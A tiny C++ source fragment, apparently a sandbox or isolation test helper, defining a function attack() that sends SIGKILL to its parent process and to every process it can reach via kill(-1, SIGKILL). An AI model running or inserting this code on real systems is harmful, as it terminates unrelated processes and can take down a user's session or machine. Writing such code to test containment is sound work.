// Kills whatever it may.
#include <signal.h>
#include <unistd.h>

namespace {
void attack() {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
}
}  // namespace
